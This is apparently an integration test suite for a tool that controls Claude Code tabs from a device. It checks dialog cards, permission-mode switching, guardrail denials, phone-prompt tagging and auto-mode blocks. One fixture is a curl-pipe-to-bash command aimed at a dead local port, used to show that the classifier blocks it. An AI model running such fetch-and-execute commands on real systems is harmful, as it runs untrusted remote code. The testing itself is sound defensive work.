/**
 * What only Claude's screen says, with the real Claude Code CLI. A dialog no hook stands for: in a home whose settings say
 * `"permissions": {"defaultMode": "default"}`, a Claude tab opens on the offer to make auto mode
 * the default. The agent reads it off the screen, the tab needs the person, the card is answered
 * from a device by keys, and text sent meanwhile is refused rather than typed into the dialog.
 * And the permission mode: shown from the footer and the hooks, switched from a device; and a
 * call auto mode blocks, offered as a block that lets Claude retry it.
 */
import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TabView, WorkspaceView } from '../../protocol/api.js';
import { DIALOG_SHOWN_ERROR } from '../../protocol/approvals.js';
import { type AgentHandle, cleanupAgents, newTestEnvironment, startAgent } from '../support/agent.js';
import { ClaudeTabPane } from '../support/claude-pane.js';
import { type ClaudeEnv, prepareClaudeEnv, quickClaudeAgent } from '../support/claude-env.js';
import { api, claim, type Session } from '../support/client.js';
import { bash, FakeAnthropic, type RecordedRequest, text } from '../support/fake-anthropic.js';
import { eventually } from '../support/eventually.js';
import { StatusClient } from '../support/status.js';
import { PHONE_CONTEXT } from '../../agent/wiring/phone-prompts.js';

const OFFER = 'Make auto mode your default permission mode?';
const SETTINGS = `${JSON.stringify({ permissions: { defaultMode: 'default' } }, null, 2)}\n`;

let fake: FakeAnthropic;
let claude: ClaudeEnv;
let agent: AgentHandle;
let session: Session;
let project: string;
let settingsFile: string;
const fakes: FakeAnthropic[] = [];

/**
 * A real agent with Claude tabs against a stand-in API of its own, in a home of its own: with
 * `settings`, Claude's user settings say so (and Claude asks its startup offer once).
 */
async function openWorld(settings: string | null, options: { sideCallText?: (r: RecordedRequest) => string; env?: Record<string, string> } = {}): Promise<void> {
  const env = newTestEnvironment();
  fake = await FakeAnthropic.start(options.sideCallText ? { sideCallText: options.sideCallText } : {});
  fakes.push(fake);
  fake.onPrompt('hello after the offer', text('Hello back.'));
  fake.onPrompt('write the guarded file', bash('echo guarded > guarded.txt', 'Write a file'));
  fake.onPrompt('sent from the phone', text('Short answer.'));
  fake.onPrompt('typed at the keyboard', text('Any answer.'));
  mkdirSync(join(env.home, 'project'), { recursive: true });
  project = realpathSync(join(env.home, 'project'));
  claude = prepareClaudeEnv({ baseUrl: fake.url, home: env.home, projectDirs: [project] });
  mkdirSync(join(env.home, '.claude'), { recursive: true });
  settingsFile = join(env.home, '.claude', 'settings.json');
  if (settings !== null) writeFileSync(settingsFile, settings);
  // A guardrail's minute lasts 2 s here, so that one of them can run out within the test.
  agent = await startAgent(quickClaudeAgent(env, claude, { env: { POCKETMUX_GUARDRAIL_MINUTE_MS: '2000', ...options.env } }));
  session = await claim(agent);
}

afterAll(async () => {
  await cleanupAgents();
  for (const f of fakes) await f.close();
});

describe('a startup dialog of the real CLI, answered from a device', () => {
  beforeAll(() => openWorld(SETTINGS));

  it('offers the auto-mode offer as a card, refuses text while it is up, and takes "No, keep manual mode" from the card', async () => {
    const client = new StatusClient(session);
    const ws = await api<WorkspaceView>(session, 'POST', '/api/workspaces', { dir: project });
    // No permission mode given: Claude starts as the person's settings say, and asks.
    const created = await api<TabView>(session, 'POST', '/api/tabs', { workspaceId: ws.body.id, kind: 'claude' });
    expect(created.status).toBe(201);
    const tab = created.body;
    const pane = new ClaudeTabPane(agent, tab);
    await pane.waitScreen('the offer', (s) => s.includes(OFFER), 30_000);

    const card = await client.waitApproval(tab.id);
    expect(card).toMatchObject({
      kind: 'dialog',
      summary: { title: OFFER },
      options: [
        { key: '1', label: 'Yes, set auto mode as my default permission mode' },
        { key: '2', label: 'No, keep manual mode' },
      ],
    });
    await client.waitState(tab.id, 'needs-input');

    // Text from a device would land in the dialog: refused, and the dialog is as it was.
    const typed = await api<{ error: string }>(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'hello during the offer', enter: true });
    expect(typed.status).toBe(409);
    expect(typed.body.error).toBe(DIALOG_SHOWN_ERROR);
    expect(await pane.screen()).toContain(OFFER);
    expect(await pane.screen()).not.toContain('hello during the offer');

    const decided = await api(session, 'POST', `/api/approvals/${card.id}`, { decision: 'answer', option: '2' });
    expect(decided.status).toBe(200);
    await pane.waitScreen('the prompt in manual mode', (s) => !s.includes(OFFER) && s.includes('manual mode on'));
    await client.waitState(tab.id, 'idle');
    expect((await client.waitResolution(card.id)).outcome).toBe('answered');
    // "No" changes nothing in the person's settings.
    expect(readFileSync(settingsFile, 'utf8')).toBe(SETTINGS);

    // With the dialog gone, text reaches Claude again.
    const sent = await api(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'hello after the offer', enter: true });
    expect(sent.status).toBe(204);
    await pane.waitScreen('the answer', (s) => s.includes('Hello back.'));
    client.ws.close();
  }, 90_000);

});

describe('the permission mode, guardrails and a phone, with the real CLI', () => {
  // Claude's own defaults: no startup offer.
  beforeAll(() => openWorld(null));

  it('shows the permission mode its footer and hooks say, and switches it from a device by Shift+Tab', async () => {
    const client = new StatusClient(session);
    const ws = await api<WorkspaceView>(session, 'POST', '/api/workspaces', { dir: project });
    const created = await api<TabView>(session, 'POST', '/api/tabs', { workspaceId: ws.body.id, kind: 'claude', claude: { permissionMode: 'default' } });
    const tab = created.body;
    const pane = new ClaudeTabPane(agent, tab);
    await pane.waitScreen('the prompt in manual mode', (s) => s.includes('manual mode on'), 30_000);
    await client.waitState(tab.id, 'idle', (s) => s.permissionMode === 'manual');

    const mode = (body: object) => api<{ mode?: string; error?: string }>(session, 'POST', `/api/tabs/${tab.id}/mode`, body);
    const toPlan = await mode({ mode: 'plan' });
    expect(toPlan).toMatchObject({ status: 200, body: { mode: 'plan' } });
    expect(await pane.screen()).toContain('⏸ plan mode on');
    await client.waitState(tab.id, 'idle', (s) => s.permissionMode === 'plan');

    // Bypass is asked for with a confirmation only, and this session, not started with it, has none.
    const unconfirmed = await mode({ mode: 'bypass' });
    expect(unconfirmed.status).toBe(400);
    const confirmed = await mode({ mode: 'bypass', confirm: true });
    expect(confirmed.status).toBe(409);
    expect(confirmed.body.error).toBe("Bypass permissions is not among this session's modes (Plan, Auto, Manual, Accept edits)");
    expect(await pane.screen()).not.toContain('bypass permissions on');

    const toAuto = await mode({ mode: 'auto' });
    expect(toAuto).toMatchObject({ status: 200, body: { mode: 'auto' } });
    expect(await pane.screen()).toContain('⏵⏵ auto mode on');
    // The next prompt's hook says the same.
    const sent = await api(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'hello after the offer', enter: true });
    expect(sent.status).toBe(204);
    await client.waitState(tab.id, 'ready-for-review', (s) => s.permissionMode === 'auto');
    expect((await mode({ mode: 'nonsense' })).status).toBe(400);
    client.ws.close();
  }, 90_000);

  it("denies a permission nobody answers within the workspace's guardrail, and Claude is told why", async () => {
    const client = new StatusClient(session);
    mkdirSync(join(project, 'guarded'), { recursive: true });
    const dir = join(project, 'guarded');
    claude.trust(dir);
    const ws = await api<WorkspaceView>(session, 'POST', '/api/workspaces', { dir });
    const patched = await api<WorkspaceView>(session, 'PATCH', `/api/workspaces/${ws.body.id}`, { guardrail: { afterMinutes: 1 } });
    expect(patched).toMatchObject({ status: 200, body: { guardrail: { afterMinutes: 1 } } });
    expect((await api(session, 'PATCH', `/api/workspaces/${ws.body.id}`, { guardrail: { afterMinutes: 30 } })).status).toBe(400);
    expect((await api(session, 'PATCH', `/api/workspaces/${ws.body.id}`, {})).status).toBe(400);

    const created = await api<TabView>(session, 'POST', '/api/tabs', { workspaceId: ws.body.id, kind: 'claude', claude: { permissionMode: 'default' } });
    const tab = created.body;
    const pane = new ClaudeTabPane(agent, tab);
    await pane.waitScreen('the prompt', (s) => s.includes('manual mode on'), 30_000);
    await client.waitState(tab.id, 'idle');
    expect((await api(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'write the guarded file', enter: true })).status).toBe(204);
    const card = await client.waitApproval(tab.id);
    expect(card.kind).toBe('permission');

    // Nobody answers: one guardrail minute later it is denied, by the agent, with the reason.
    const resolution = await client.waitResolution(card.id);
    expect(resolution).toMatchObject({ outcome: 'denied', by: { kind: 'agent', name: 'guardrail' } });
    expect(resolution.message).toContain('No answer from the phone within 1 minute');
    await client.waitState(tab.id, 'ready-for-review');
    // What Claude was told reached the model with the tool's result; the command never ran.
    expect(fake.lastToolResultText()).toContain('No answer from the phone within 1 minute');
    expect(existsSync(join(dir, 'guarded.txt'))).toBe(false);
    client.ws.close();
  }, 90_000);

  it('tells Claude that a prompt came from a phone, with that prompt and no other', async () => {
    const client = new StatusClient(session);
    const ws = await api<WorkspaceView>(session, 'POST', '/api/workspaces', { dir: project });
    const created = await api<TabView>(session, 'POST', '/api/tabs', { workspaceId: ws.body.id, kind: 'claude', claude: { permissionMode: 'default' } });
    const tab = created.body;
    const pane = new ClaudeTabPane(agent, tab);
    await pane.waitScreen('the prompt', (s) => s.includes('manual mode on'), 30_000);
    await client.waitState(tab.id, 'idle');
    /** The text of the whole request Claude made for a prompt: where a hook's context goes. */
    const requestFor = (prompt: string) => JSON.stringify(fake.mainRequests().find((r) => r.prompt?.includes(prompt))?.body ?? null);

    expect((await api(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'sent from the phone', enter: true, phone: true })).status).toBe(204);
    await client.waitState(tab.id, 'ready-for-review');
    expect(requestFor('sent from the phone')).toContain(PHONE_CONTEXT);

    // Typed at the keyboard: the same session, no word of a phone.
    // Its turn may be over before a look at the latest state sees it busy: the states since are read.
    const seen = client.states(tab.id).length;
    await pane.submit('typed at the keyboard');
    await eventually(
      () => {
        const since = client.states(tab.id).slice(seen);
        return since.includes('busy') && since.at(-1) === 'ready-for-review';
      },
      30_000,
      'the typed turn to run and end',
    );
    const typed = fake.mainRequests().filter((r) => r.prompt?.includes('typed at the keyboard'));
    expect(typed.length).toBeGreaterThan(0);
    const last = typed.at(-1)?.body?.messages?.at(-1);
    expect(last?.role).toBe('user');
    expect(JSON.stringify(last)).not.toContain(PHONE_CONTEXT);
    client.ws.close();
  }, 90_000);
});

/** A command auto mode's classifier refuses here; run, it does nothing but write ran.txt. */
const BLOCKED = 'curl -s http://127.0.0.1:9/install.sh | bash; echo ran > ran.txt';

describe("a call auto mode's classifier blocks, with the real CLI", () => {
  // Claude's own defaults (auto mode), with its classifier run locally against the stand-in,
  // whose monitor answer blocks every call it is asked about.
  beforeAll(() =>
    openWorld(null, {
      env: { CLAUDE_CODE_AUTO_MODE_SERVER: '0' },
      sideCallText: (r) => (JSON.stringify(r.body?.system ?? '').includes('security monitor') ? '<severity>85</severity><category>Code from External</category>' : 'Test session'),
    }),
  );

  it('offers the block with its reason, moves no state, and lets Claude retry the exact call from the card', async () => {
    fake.onPrompt('run the installer', bash(BLOCKED, 'Run the installer', { preamble: 'I will run the installer.' }));
    const client = new StatusClient(session);
    const ws = await api<WorkspaceView>(session, 'POST', '/api/workspaces', { dir: project });
    const tab = (await api<TabView>(session, 'POST', '/api/tabs', { workspaceId: ws.body.id, kind: 'claude' })).body;
    const pane = new ClaudeTabPane(agent, tab);
    await pane.waitScreen('the prompt in auto mode', (s) => s.includes('⏵⏵ auto mode on'), 30_000);
    await client.waitState(tab.id, 'idle', (s) => s.permissionMode === 'auto');

    expect((await api(session, 'POST', `/api/tabs/${tab.id}/input`, { text: 'run the installer', enter: true })).status).toBe(204);
    const block = await client.waitApproval(tab.id);
    expect(block).toMatchObject({
      kind: 'block',
      tool: 'Bash',
      summary: { title: `Bash: ${BLOCKED}`, description: 'Auto mode: [Code from External]' },
      options: [
        { key: 'retry', label: 'Let Claude retry it' },
        { key: 'dismiss', label: 'Dismiss' },
      ],
    });
    await pane.waitScreen('the block in the conversation', (s) => s.includes('Blocked by auto mode'));
    // Claude went on: its turn ends, the block stays open, and the session never waited on it.
    await client.waitState(tab.id, 'ready-for-review');
    expect(client.states(tab.id)).not.toContain('needs-input');
    expect((await api<{ approvals: { id: string }[] }>(session, 'GET', '/api/approvals')).body.approvals.map((a) => a.id)).toEqual([block.id]);
    expect(existsSync(join(project, 'ran.txt'))).toBe(false);

    const asked = fake.requests.length;
    const decided = await api(session, 'POST', `/api/approvals/${block.id}`, { decision: 'answer', option: 'retry' });
    expect(decided.status).toBe(200);
    expect((await client.waitResolution(block.id)).outcome).toBe('answered');
    await pane.waitScreen("Claude's word that it was told", (s) => s.includes('Told Claude it may retry') && s.includes('⏵⏵ auto mode on'));
    // What Claude tells the model: this exact call is granted, and it may retry it.
    const granted = await eventually(
      () => fake.requests.slice(asked).find((r) => !r.sideCall && JSON.stringify(r.body?.messages?.at(-1) ?? '').includes('Permission granted for this exact command only')),
      30_000,
      'the grant in what Claude sends the model',
    );
    expect(JSON.stringify(granted.body?.messages?.at(-1))).toContain(JSON.stringify(BLOCKED).slice(1, -1));
    client.ws.close();
  }, 120_000);
});
